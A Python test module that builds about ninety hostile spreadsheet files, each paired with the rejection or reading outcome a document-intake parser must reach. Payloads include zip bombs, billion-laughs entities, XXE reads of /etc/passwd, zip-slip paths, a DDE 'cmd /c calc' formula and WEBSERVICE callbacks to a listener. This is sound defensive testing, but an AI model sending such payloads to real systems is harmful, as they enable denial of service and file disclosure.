"""Files made to do harm, and what each has to end in; all content is MẪU.

`python -m tests.hostile.make FOLDER` writes them all; a process of its own, because making them
takes memory. Most are a register of
six dossiers (rows 6 to 11) with something done to it: where a person could still mean that register
it has to be read.
"""

import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from html import escape
from pathlib import Path
from typing import Any

from openpyxl.utils import get_column_letter

from tests.intake.workbooks import (
    REGISTER_HEADER,
    REGISTER_TITLE,
    SIX_DOSSIERS,
    register,
    save_xls,
)

READING = "reading"
"""The register with its six rows is read."""

MEGABYTE = 1 << 20
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_ROWS = [*REGISTER_TITLE, REGISTER_HEADER, *SIX_DOSSIERS]
_LAST_ROW, _LAST_COLUMN = 1_048_576, "XFD"
LISTENER, SECRET = (*sys.argv[2:], "127.0.0.1:9", "/etc/passwd")[:2]
"""Whom a file would call, and what it would read; tests name what they can watch."""


@dataclass(frozen=True)
class HostileFile:
    """A file, how it is made, and the code of the one problem it has to end in, or READING."""

    name: str
    outcome: str
    make: Callable[[], bytes]


# the parts of an xlsx, written by hand


def zipped(parts: Mapping[str, bytes | str], *, level: int = 6) -> bytes:
    """Pack parts into an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


def cell(column: int, row: int, value: Any) -> str:
    """Write one cell; `column` counts from 1."""
    name = f"{get_column_letter(column)}{row}"
    if isinstance(value, int | float):
        return f'<c r="{name}"><v>{value}</v></c>'
    return f'<c r="{name}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def row(number: int, values: list[Any]) -> str:
    """Write one row."""
    cells = "".join(
        cell(column, number, value)
        for column, value in enumerate(values, 1)
        if value not in ("", None)
    )
    return f'<row r="{number}">{cells}</row>'


REGISTER_ROWS = [row(number, values) for number, values in enumerate(_ROWS, 1)]


def sheet(rows: str = "", *, before: str = "", after: str = "", doctype: str = "") -> str:
    """Write a sheet: the register, or other rows; `before` and `after` stand around them."""
    data = rows or "".join(REGISTER_ROWS)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns="{MAIN}" '
        f'xmlns:r="{_RELATIONS}">{before}<sheetData>{data}</sheetData>{after}</worksheet>'
    )


def xlsx(
    sheet_xml: str | None = None,
    *,
    more_sheets: int = 0,
    shared: str = "",
    styles: str = "",
    in_workbook: str = "",
    doctype: str = "",
    extra: Mapping[str, bytes | str] | None = None,
) -> bytes:
    """Put a workbook together out of XML as it is given."""
    return zipped(
        xlsx_parts(
            sheet_xml,
            more_sheets=more_sheets,
            shared=shared,
            styles=styles,
            in_workbook=in_workbook,
            doctype=doctype,
            extra=extra,
        )
    )


def xlsx_parts(
    sheet_xml: str | None = None,
    *,
    more_sheets: int = 0,
    shared: str = "",
    styles: str = "",
    in_workbook: str = "",
    doctype: str = "",
    extra: Mapping[str, bytes | str] | None = None,
) -> dict[str, bytes | str]:
    """Return the parts of a workbook by name."""
    numbers = range(1, more_sheets + 2)
    names = "".join(f'<sheet name="T{n}" sheetId="{n}" r:id="rId{n}"/>' for n in numbers)
    relations = "".join(
        f'<Relationship Id="rId{n}" Type="{_RELATIONS}/worksheet" Target="worksheets/s{n}.xml"/>'
        for n in numbers
    )
    types = "".join(
        f'<Override PartName="/xl/worksheets/s{n}.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in numbers
    )
    for name, given in (("sharedStrings", shared), ("styles", styles)):
        if given:
            relations += (
                f'<Relationship Id="{name}" Type="{_RELATIONS}/{name}" Target="{name}.xml"/>'
            )
            types += (
                f'<Override PartName="/xl/{name}.xml" ContentType="application/vnd.'
                f'openxmlformats-officedocument.spreadsheetml.{name}+xml"/>'
            )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default '
        'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-office'
        f'document.spreadsheetml.sheet.main+xml"/>{types}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{doctype}<workbook xmlns="{MAIN}" xmlns:r="{_RELATIONS}">'
        f"<sheets>{names}</sheets>{in_workbook}</workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f"{relations}</Relationships>",
        "xl/worksheets/s1.xml": sheet() if sheet_xml is None else sheet_xml,
    }
    for n in numbers[1:]:
        parts[f"xl/worksheets/s{n}.xml"] = sheet(row(1, ["STT"]))
    if shared:
        parts["xl/sharedStrings.xml"] = shared
    if styles:
        parts["xl/styles.xml"] = styles
    return {**parts, **(extra or {})}


def shared_strings(items: str, *, doctype: str = "") -> str:
    """Write the table of shared strings."""
    return f'<?xml version="1.0"?>{doctype}<sst xmlns="{MAIN}">{items}</sst>'


def laughs(root: str) -> str:
    """A thousand million laughs, as a DOCTYPE; `&l9;` is all of them."""
    tens = [f"&l{number};" * 10 for number in range(9)]
    entities = "".join(f'<!ENTITY l{n} "{ten}">' for n, ten in enumerate(tens, 1))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{entities}]>'


# sheets


def _register_with(extra_rows: str = "", **options: str) -> bytes:
    return xlsx(sheet("".join(REGISTER_ROWS) + extra_rows, **options))


def _far_corner() -> bytes:
    return _register_with(
        f'<row r="{_LAST_ROW}"><c r="{_LAST_COLUMN}{_LAST_ROW}"><v>1</v></c></row>'
    )


def _two_corners() -> bytes:
    far = f'<row r="{_LAST_ROW}"><c r="{_LAST_COLUMN}{_LAST_ROW}"><v>1</v></c></row>'
    return xlsx(sheet('<row r="1"><c r="A1"><v>1</v></c></row>' + far))


def _shared_string_bomb() -> bytes:
    refs = "".join(
        f'<row r="{n}">' + '<c t="s"><v>0</v></c>' * 100 + "</row>" for n in range(1, 10_001)
    )
    return xlsx(sheet(refs), shared=shared_strings(f"<si><t>{'x' * 32_767}</t></si>"))


def _long_string() -> bytes:
    return xlsx(
        sheet(),
        shared=shared_strings(f"<si><t>{'x' * (100 * MEGABYTE)}</t></si>"),
    )


def _long_string_in_cell() -> bytes:
    long = "x" * (100 * MEGABYTE)
    return _register_with(f'<row r="12"><c r="C12" t="inlineStr"><is><t>{long}</t></is></c></row>')


def _many_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="P{n}:Q{n}"/>' for n in range(1, 1_000_001))
    return _register_with(after=f"<mergeCells>{merges}</mergeCells>")


def _overlapping_merges() -> bytes:
    merges = f'<mergeCell ref="A1:{_LAST_COLUMN}{_LAST_ROW}"/>' * 10_000
    return _register_with(after=f"<mergeCells>{merges}</mergeCells>")


def _external_entity(target: str) -> bytes:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "{target}">]>'
    return xlsx(sheet(doctype=doctype).replace("Cấp đổi", "&x;"))


def _external_subset() -> bytes:
    return xlsx(sheet(doctype=f'<!DOCTYPE worksheet SYSTEM "http://{LISTENER}/x.dtd">'))


def _laughing_strings() -> bytes:
    table = shared_strings("<si><t>&l9;</t></si>", doctype=laughs("sst"))
    return xlsx(sheet().replace("<v>1</v></c>", '<v>1</v></c><c t="s"><v>0</v></c>'), shared=table)


def _laughing_styles() -> bytes:
    styles = (
        f'{laughs("styleSheet")}<styleSheet xmlns="{MAIN}"><numFmts count="1">'
        '<numFmt numFmtId="164" formatCode="&l9;"/></numFmts></styleSheet>'
    )
    return xlsx(styles=styles)


def _quadratic_blowup() -> bytes:
    long, many = "x" * 100_000, "&x;" * 100_000
    doctype = f'<!DOCTYPE worksheet [<!ENTITY x "{long}">]>'
    return xlsx(sheet(doctype=doctype, before=f'<sheetPr codeName="{many}"/>'))


def _long_attributes() -> bytes:
    many = " ".join(f'a{n}="{n}"' for n in range(200_000))
    return xlsx(sheet(before=f"<sheetPr {many}/>"))


def _deep_elements() -> bytes:
    depth = 1_000_000
    return xlsx(sheet(after="<x>" * depth + "</x>" * depth))


def _deep_in_cell() -> bytes:
    depth = 300_000
    inner = "<r>" * depth + "<t>a</t>" + "</r>" * depth
    return _register_with(f'<row r="12"><c r="C12" t="inlineStr"><is>{inner}</is></c></row>')


def _backwards() -> bytes:
    """Cells and rows from the last to the first: legal XML, and the cells say where they belong."""
    backward = []
    for number, values in enumerate(_ROWS, 1):
        cells = [
            cell(column, number, value)
            for column, value in enumerate(values, 1)
            if value not in ("", None)
        ]
        backward.append(f'<row r="{number}">{"".join(reversed(cells))}</row>')
    return xlsx(sheet("".join(reversed(backward))))


def _lying_dimension(ref: str) -> bytes:
    return xlsx(sheet(before=f'<dimension ref="{ref}"/>'))


def _row_number(number: str) -> bytes:
    return _register_with(f'<row r="{number}"><c r="A{number}"><v>1</v></c></row>')


def _twice_the_rows() -> bytes:
    return xlsx(sheet("".join(each * 2 for each in REGISTER_ROWS)))


def _odd_text(text: str) -> bytes:
    return xlsx(sheet().replace("Người nộp MẪU", text))


def _odd_bytes(before: bytes) -> bytes:
    parts = xlsx_parts()
    written = str(parts["xl/worksheets/s1.xml"]).encode()
    return zipped({**parts, "xl/worksheets/s1.xml": written.replace("Người nộp".encode(), before)})


def _odd_number(number: str) -> bytes:
    return xlsx(sheet().replace("<v>1</v>", f"<v>{number}</v>"))


def _formula(text: str, times: int = 1) -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="P{n}"><f>{escape(text)}</f><v>1</v></c></row>'
        for n in range(20, 20 + times)
    )
    return _register_with(rows)


def _external_links() -> bytes:
    link = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{_RELATIONS}"><externalBook r:id="rId1"/>'
        "</externalLink>"
    )
    target = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/externalLinkPath" Target="http://{LISTENER}/x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    return xlsx(
        extra={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": target,
        }
    )


def _sheet_elsewhere() -> bytes:
    """The sheet's relation leads out of the archive."""
    parts = xlsx_parts()
    relations = str(parts["xl/_rels/workbook.xml.rels"])
    outside = relations.replace("worksheets/s1.xml", "../../../../../../etc/passwd")
    return zipped({**parts, "xl/_rels/workbook.xml.rels": outside})


def _many_styles() -> bytes:
    xfs = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 1_000_000
    return xlsx(
        styles=f'<styleSheet xmlns="{MAIN}"><cellXfs count="1000000">{xfs}</cellXfs></styleSheet>'
    )


def _many_formats() -> bytes:
    long = "[h]" * 200
    formats = "".join(f'<numFmt numFmtId="{n}" formatCode="{long}"/>' for n in range(164, 60_000))
    return xlsx(styles=f'<styleSheet xmlns="{MAIN}"><numFmts>{formats}</numFmts></styleSheet>')


def _many_names() -> bytes:
    names = "".join(f'<definedName name="n{n}">T1!$A${n}</definedName>' for n in range(1, 100_001))
    return xlsx(in_workbook=f"<definedNames>{names}</definedNames>")


def _many_cells() -> bytes:
    """Four million numbers: as large as it may be, and no form."""
    line = "<c><v>1</v></c>" * 100
    return xlsx(sheet("".join(f'<row r="{n}">{line}</row>' for n in range(1, 40_001))))


# archives


def _zip_bomb() -> bytes:
    buffer = io.BytesIO(register())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(12):
            archive.writestr(f"xl/media/{number}.bin", bytes(100 * MEGABYTE))
    return buffer.getvalue()


def _sheet_of_spaces() -> bytes:
    """A sheet of 900 MB of blanks between its rows: it unpacks to less than is allowed."""
    buffer = io.BytesIO()
    parts = xlsx_parts()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, part in parts.items():
            if name != "xl/worksheets/s1.xml":
                archive.writestr(name, part)
        head, _, tail = str(parts["xl/worksheets/s1.xml"]).partition("<sheetData>")
        with archive.open("xl/worksheets/s1.xml", "w", force_zip64=True) as part:
            part.write(f"{head}<sheetData>".encode())
            for _ in range(900):
                part.write(b" " * MEGABYTE)
            part.write(tail.encode())
    return buffer.getvalue()


def _nested_bombs() -> bytes:
    inner = zipped({"0.bin": bytes(10 * MEGABYTE)})
    for _ in range(4):
        inner = zipped({f"{number}.zip": inner for number in range(16)})
    return xlsx(extra={"xl/media/42.zip": inner})


def _forged_size(size: int) -> bytes:
    """An archive that lies about how large its parts are."""
    content = bytearray(register())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 24 : at + 28] = struct.pack("<I", size)
        at += 4
    return bytes(content)


def _slips() -> bytes:
    names = ("../../../../tmp/parindex-slip", "/tmp/parindex-slip", "..\\..\\parindex-slip")
    return xlsx(extra=dict.fromkeys(names, "slip"))


def _many_entries() -> bytes:
    return xlsx(extra={f"xl/media/{number}": "" for number in range(100_000)})


def _same_name_twice() -> bytes:
    buffer = io.BytesIO(xlsx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/worksheets/s1.xml", sheet(row(1, ["khác"])))
    return buffer.getvalue()


def _odd_method() -> bytes:
    """Parts packed by a method that nobody knows."""
    content = bytearray(xlsx())
    for sign, offset in ((b"PK\x01\x02", 10), (b"PK\x03\x04", 8)):
        at = 0
        while (at := content.find(sign, at)) >= 0:
            content[at + offset : at + offset + 2] = b"\x63\x00"
            at += 4
    return bytes(content)


# ods


_ODS_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _ods_row(values: list[Any]) -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="float" office:value="{value}"/>'
        if isinstance(value, int)
        else f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}</text:p>'
        "</table:table-cell>"
        if value not in ("", None)
        else "<table:table-cell/>"
        for value in values
    )
    return f"<table:table-row>{cells}</table:table-row>"


def ods(rows: str | None = None, *, after: str = "", doctype: str = "") -> bytes:
    """Put an ods together out of rows as they are given."""
    written = "".join(_ods_row(values) for values in _ROWS) if rows is None else rows
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:open'
            'document:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
            "content.xml": f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            f"<office:document-content {_ODS_NAMES}><office:body><office:spreadsheet>"
            f'<table:table table:name="T1">{written}{after}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
        }
    )


def _repeated(content: str) -> str:
    return (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        f'table:number-columns-repeated="16384"{content}</table:table-row>'
    )


_FULL_CELL = ' office:value-type="string"><text:p>x</text:p></table:table-cell>'


# csv, tsv, html, other formats


def csv_register() -> bytes:
    """The register as separated text."""
    lines = [";".join("" if v is None else str(v) for v in values) for values in _ROWS]
    return "\n".join(lines).encode()


def html_register(*, before: str = "", in_cell: str = "", after: str = "") -> bytes:
    """The register as the web page that exports call .xls."""
    rows = ""
    for values in _ROWS:
        cells = "".join(f"<td{in_cell}>{escape(str(value or ''))}</td>" for value in values)
        rows += f"<tr>{cells}</tr>"
    return (
        f'<html><head><meta charset="utf-8"></head><body>{before}<table>{rows}</table>{after}'
        "</body></html>"
    ).encode()


@cache
def xls_register() -> bytes:
    """The register in the binary format of Excel 97."""
    return save_xls(_ROWS)


def _looping_fat() -> bytes:
    """Every entry of the allocation table leads back to the first sector of the workbook."""
    content = bytearray(xls_register())
    first_fat = struct.unpack_from("<I", content, 76)[0]
    start = 512 * (first_fat + 1)
    for at in range(start, start + 512, 4):
        content[at : at + 4] = struct.pack("<I", 1)
    return bytes(content)


def _endless_master_table() -> bytes:
    """The header counts four thousand million sectors of allocation table."""
    content = bytearray(xls_register())
    content[44:48] = content[68:72] = content[72:76] = b"\xfe\xff\xff\x7f"
    return bytes(content)


def _records(content: bytes, *, change: Callable[[bytearray], None]) -> bytes:
    changed = bytearray(content)
    change(changed)
    return bytes(changed)


def _xls_garbage() -> bytes:
    """A workbook stream whose records are noise."""
    chance = random.Random(3)

    def change(content: bytearray) -> None:
        for at in range(600, 3000):
            content[at] = chance.randrange(256)

    return _records(xls_register(), change=change)


def _ole_bomb() -> bytes:
    """An OLE file that says it holds a stream of two thousand million bytes."""
    content = bytearray(xls_register())
    name = "Workbook".encode("utf-16-le")
    at = content.find(name)
    content[at + 120 : at + 124] = b"\xff\xff\xff\x7f"
    return bytes(content)


def _xlsb_garbage() -> bytes:
    chance = random.Random(5)
    noise = chance.randbytes(20_000)
    parts = xlsx_parts()
    del parts["xl/workbook.xml"]
    relations = str(parts["_rels/.rels"]).replace("workbook.xml", "workbook.bin")
    return zipped({**parts, "_rels/.rels": relations, "xl/workbook.bin": noise})


def _dbf() -> bytes:
    """The table of dBase: a head of 65 bytes, one field, one record."""
    head = struct.pack("<BBBBIHH20x", 3, 124, 1, 1, 1, 65, 11)
    field = b"STT".ljust(11, b"\0") + b"C" + bytes(4) + b"\x0a\0" + bytes(14)
    return head + field + b"\x0d" + b" 1".ljust(11) + b"\x1a"


HOSTILE_FILES: tuple[HostileFile, ...] = (
    # sheets that are larger, deeper or stranger than they look
    HostileFile("far-corner.xlsx", READING, _far_corner),
    HostileFile("two-corners.xlsx", "form_unrecognised", _two_corners),
    HostileFile("shared-string-bomb.xlsx", "form_unrecognised", _shared_string_bomb),
    HostileFile("string-of-100-mb.xlsx", "unpacked_too_large", _long_string),
    HostileFile("cell-of-100-mb.xlsx", "unpacked_too_large", _long_string_in_cell),
    HostileFile("ten-thousand-sheets.xlsx", READING, lambda: xlsx(more_sheets=10_000)),
    HostileFile("million-merges.xlsx", READING, _many_merges),
    HostileFile("overlapping-merges.xlsx", READING, _overlapping_merges),
    HostileFile("million-styles.xlsx", READING, _many_styles),
    HostileFile("long-formats.xlsx", READING, _many_formats),
    HostileFile("many-names.xlsx", READING, _many_names),
    HostileFile("four-million-cells.xlsx", "form_unrecognised", _many_cells),
    HostileFile("long-attributes.xlsx", READING, _long_attributes),
    HostileFile("deep-elements.xlsx", READING, _deep_elements),
    HostileFile("deep-in-cell.xlsx", READING, _deep_in_cell),
    HostileFile("backwards.xlsx", READING, _backwards),
    HostileFile("dimension-too-small.xlsx", READING, lambda: _lying_dimension("A1:B2")),
    HostileFile("dimension-too-large.xlsx", READING, lambda: _lying_dimension("A1:XFD1048576")),
    HostileFile("dimension-beyond.xlsx", READING, lambda: _lying_dimension("A1:ZZZZZ99999999999")),
    HostileFile("dimension-nonsense.xlsx", READING, lambda: _lying_dimension("-:0")),
    HostileFile("row-negative.xlsx", READING, lambda: _row_number("-5")),
    HostileFile("row-huge.xlsx", "file_damaged", lambda: _row_number("99999999999999999999")),
    HostileFile("row-beyond.xlsx", "file_damaged", lambda: _row_number("4294967295")),
    HostileFile("rows-twice.xlsx", READING, _twice_the_rows),
    HostileFile("control-characters.xlsx", READING, lambda: _odd_text("a&#1;&#11;\x07b")),
    HostileFile("surrogates.xlsx", "file_damaged", lambda: _odd_bytes(b"\xed\xa0\x80\xed\xbf\xbf")),
    HostileFile("no-utf-8.xlsx", "file_damaged", lambda: _odd_bytes(b"\xff\xfe\xc3\x28")),
    HostileFile("escapes.xlsx", READING, lambda: _odd_text("_x0000__xD800__xFFFF_")),
    HostileFile("number-1e308.xlsx", READING, lambda: _odd_number("1e308")),
    HostileFile("number-nan.xlsx", READING, lambda: _odd_number("NaN")),
    HostileFile("number-inf.xlsx", READING, lambda: _odd_number("-INF")),
    HostileFile("number-of-a-million-digits.xlsx", READING, lambda: _odd_number("9" * 1_000_000)),
    HostileFile("date-far-out.xlsx", READING, lambda: _odd_number("2958466000000")),
    # formulas, links, macros
    HostileFile("nested-formula.xlsx", READING, lambda: _formula("IF(" * 2700 + "1" + ")" * 2700)),
    HostileFile("dde.xlsx", READING, lambda: _formula("cmd|'/c calc'!A0", times=100)),
    HostileFile("webservice.xlsx", READING, lambda: _formula(f'WEBSERVICE("http://{LISTENER}/")')),
    HostileFile("external-link.xlsx", READING, _external_links),
    HostileFile("macro.xlsm", READING, lambda: xlsx(extra={"xl/vbaProject.bin": xls_register()})),
    # XML that reaches out or grows
    HostileFile("xxe-file.xlsx", "file_damaged", lambda: _external_entity(f"file://{SECRET}")),
    HostileFile("xxe-http.xlsx", "file_damaged", lambda: _external_entity(f"http://{LISTENER}/")),
    HostileFile("external-dtd.xlsx", READING, _external_subset),
    HostileFile(
        "laughs-in-sheet.xlsx",
        "file_damaged",
        lambda: xlsx(sheet(doctype=laughs("worksheet")).replace("Cấp đổi", "&l9;")),
    ),
    HostileFile("laughs-in-strings.xlsx", "file_damaged", _laughing_strings),
    HostileFile("laughs-in-styles.xlsx", "file_damaged", _laughing_styles),
    HostileFile("laughs-in-workbook.xlsx", READING, lambda: xlsx(doctype=laughs("workbook"))),
    HostileFile("quadratic.xlsx", READING, _quadratic_blowup),
    # archives
    HostileFile("bomb.xlsx", "unpacked_too_large", _zip_bomb),
    HostileFile("blanks.xlsx", "unpacked_too_large", _sheet_of_spaces),
    HostileFile("nested-bombs.xlsx", READING, _nested_bombs),
    HostileFile("size-forged-small.xlsx", "file_damaged", lambda: _forged_size(8)),
    HostileFile("size-forged-huge.xlsx", "unpacked_too_large", lambda: _forged_size(0xFFFFFF00)),
    HostileFile("slips.xlsx", READING, _slips),
    HostileFile("sheet-elsewhere.xlsx", "no_sheets", _sheet_elsewhere),
    HostileFile("many-entries.xlsx", "too_many_parts", _many_entries),
    HostileFile("name-twice.xlsx", "form_unrecognised", _same_name_twice),
    HostileFile("unknown-method.xlsx", "file_damaged", _odd_method),
    HostileFile("half.xlsx", "file_damaged", lambda: xlsx()[: len(xlsx()) // 2]),
    HostileFile("head.xlsx", "file_damaged", lambda: b"PK\x03\x04" + bytes(100)),
    HostileFile("empty-archive.xlsx", "not_a_spreadsheet", lambda: zipped({})),
    HostileFile("nothing.xlsx", "file_empty", lambda: b""),
    # ods
    HostileFile("repeated-blanks.ods", READING, lambda: ods(after=_repeated("/>"))),
    HostileFile("repeated-cells.ods", "too_many_cells", lambda: ods(_repeated(_FULL_CELL))),
    HostileFile("repeated-beside.ods", "too_many_cells", lambda: ods(after=_repeated(_FULL_CELL))),
    HostileFile(
        "repeated-beyond.ods",
        READING,
        lambda: ods(after=_repeated("/>").replace("1048576", "99999999999999999999")),
    ),
    HostileFile(
        "laughs.ods",
        "file_damaged",
        lambda: ods(
            after='<table:table-row><table:table-cell office:value-type="string"><text:p>&l9;'
            "</text:p></table:table-cell></table:table-row>",
            doctype=laughs("office:document-content"),
        ),
    ),
    # binary Excel
    HostileFile("half.xls", "file_damaged", lambda: xls_register()[:1500]),
    HostileFile("looping.xls", "file_damaged", _looping_fat),
    HostileFile("endless-table.xls", "file_damaged", _endless_master_table),
    HostileFile("garbage.xls", "file_damaged", _xls_garbage),
    HostileFile("ole-bomb.xls", READING, _ole_bomb),
    HostileFile("garbage.xlsb", "file_damaged", _xlsb_garbage),
    # separated text
    HostileFile("one-line.csv", "not_a_spreadsheet", lambda: b"STT," + b"a" * (40 * MEGABYTE)),
    HostileFile("million-columns.csv", "not_a_spreadsheet", lambda: b"a," * 1_000_000),
    HostileFile(
        "wide-row.csv",
        "not_a_spreadsheet",
        lambda: csv_register() + b"\n" + b";" * 1_000_000 + b"\n;" * 100_000,
    ),
    HostileFile("zero-bytes.csv", "not_a_spreadsheet", lambda: csv_register() + bytes(1000)),
    HostileFile(
        "open-quote.csv",
        "not_a_spreadsheet",
        lambda: 'STT;Mã hồ sơ;Ngày tiếp nhận\n"'.encode() + b"a\n" * (5 * MEGABYTE),
    ),
    HostileFile("binary.csv", "not_a_spreadsheet", lambda: bytes(range(256)) * 50),
    HostileFile("half-a-letter.csv", "not_a_spreadsheet", lambda: csv_register() + b"\n\xe1\xba"),
    # web pages
    HostileFile(
        "nested.xls",
        "not_a_spreadsheet",
        lambda: html_register(before="<div>" * 1_000_000),
    ),
    HostileFile(
        "nested-tables.xls",
        "too_many_cells",
        lambda: html_register(after="<table><tr><td>" * 300_000),
    ),
    HostileFile(
        "spans.xls",
        READING,
        lambda: html_register(
            after='<table><tr><td colspan="1000000000" rowspan="1000000000">a</td></tr></table>'
        ),
    ),
    HostileFile(
        "spans-inside.xls",
        READING,
        lambda: html_register(in_cell=' colspan="1000000000" rowspan="1000000000"'),
    ),
    HostileFile(
        "picture-of-home.xls",
        READING,
        lambda: html_register(before=f'<img src="http://{LISTENER}/"><base href="file:///etc/">'),
    ),
    # what is no spreadsheet, or none that is handled
    HostileFile("table.slk", "not_a_spreadsheet", lambda: b'ID;PWXL;N;E\nC;Y1;X1;K"STT"\nE\n'),
    HostileFile(
        "table.dif", "not_a_spreadsheet", lambda: b'TABLE\n0,1\n"EXCEL"\nVECTORS\n0,1\n""\n'
    ),
    HostileFile("table.dbf", "not_a_spreadsheet", _dbf),
    HostileFile("packed-gz.xlsx", "not_a_spreadsheet", lambda: b"\x1f\x8b\x08" + bytes(200)),
    HostileFile("packed-rar.xlsx", "not_a_spreadsheet", lambda: b"Rar!\x1a\x07\x01\0" + bytes(200)),
    HostileFile("packed-7z.xlsx", "not_a_spreadsheet", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(200)),
    HostileFile("scan.pdf", "not_a_spreadsheet", lambda: b"%PDF-1.7\n" + bytes(200)),
)


def write_all(folder: Path) -> None:
    """Write every hostile file into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for hostile in HOSTILE_FILES:
        (folder / hostile.name).write_bytes(hostile.make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
